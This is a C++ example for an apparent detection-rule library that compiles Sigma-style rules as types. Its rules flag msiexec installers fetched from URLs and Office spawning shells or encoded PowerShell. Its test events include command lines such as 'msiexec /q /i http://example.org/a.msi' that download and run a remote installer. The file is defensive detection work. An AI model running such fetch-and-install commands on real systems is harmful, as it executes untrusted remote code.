// SPDX-License-Identifier: BSL-1.0

// Rules as C++ types: parsed, checked and compiled by the compiler. No YAML, no heap, nothing to do when the program
// starts.
//
// What would be wrong with a rule does not compile. Try it: write `contain` for `contains`, `CommandLin`, or `filter_`
// with a slip in the condition, and read what the compiler says.

#include <varsigma/event/sources.hpp>
#include <varsigma/static_rules/static_rule.hpp>
#include <varsigma/static_rules/static_rule_set.hpp>

#include <array>
#include <cstdint>
#include <iostream>
#include <string>
#include <string_view>

using varsigma::any_of;
using varsigma::selection;
using varsigma::where;

struct process_event {
    std::uint32_t event_id = 1;
    std::string image;
    std::string parent_image;
    std::string command_line;
};

template <>
struct varsigma::event_traits<process_event> {
    static constexpr auto source = varsigma::sources::windows_process_creation;
    static constexpr auto fields = varsigma::fields(varsigma::field<"EventID", &process_event::event_id>,
                                                    varsigma::field<"Image", &process_event::image>,
                                                    varsigma::field<"ParentImage", &process_event::parent_image>,
                                                    varsigma::field<"CommandLine", &process_event::command_line>);
};

struct web_install : varsigma::static_rule<"selection and not 1 of filter_*",
                                           selection<"selection", where<"CommandLine|contains|all", " msiexec", "://">>,
                                           selection<"filter_sccm", where<"ParentImage|endswith", R"(\ccmexec.exe)">>> {
    static constexpr std::string_view title = "Installer fetched from the web";
    static constexpr varsigma::severity_level level = varsigma::severity_level::medium;
    static constexpr std::array<std::string_view, 1> tags{"attack.t1218.007"};
};

struct shell_from_office
    : varsigma::static_rule<"selection",
                            selection<"selection", where<"ParentImage|endswith", R"(\winword.exe)", R"(\excel.exe)">,
                                      any_of<where<"Image|endswith", R"(\cmd.exe)", R"(\powershell.exe)">,
                                             where<"CommandLine|windash|contains", " -enc ">>>> {
    static constexpr std::string_view title = "Office starts a shell";
    static constexpr varsigma::severity_level level = varsigma::severity_level::high;
    static constexpr varsigma::logsource source{.category = "process_creation"};
};

// a field that the struct lacks, or a rule for another log, would not compile; nor would a selection that is never used
static_assert(varsigma::applies_to<web_install, process_event> && varsigma::strict<web_install>);
static_assert(varsigma::applies_to<shell_from_office, process_event> && varsigma::strict<shell_from_office>);

int main() {
    const std::array events{
        process_event{1, R"(C:\Windows\System32\cmd.exe)", R"(C:\Windows\explorer.exe)",
                      "cmd /c MSIEXEC /q /i http://example.org/a.msi"},
        process_event{1, R"(C:\Windows\System32\cmd.exe)", R"(C:\Windows\CCM\CcmExec.exe)",
                      "cmd /c msiexec /q /i http://sccm.example.org/a.msi"},
        process_event{1, R"(C:\Windows\System32\cmd.exe)", R"(C:\Program Files\Office\WINWORD.EXE)",
                      "cmd /c msiexec /i https://example.org/b.msi"},
    };
    using rules = varsigma::static_rule_set<web_install, shell_from_office>;
    for (const auto& event : events) {
        std::cout << event.command_line << '\n';
        for (const auto& hit : rules::match(event)) { std::cout << "  " << hit.level() << ": " << hit.title() << '\n'; }
    }
}
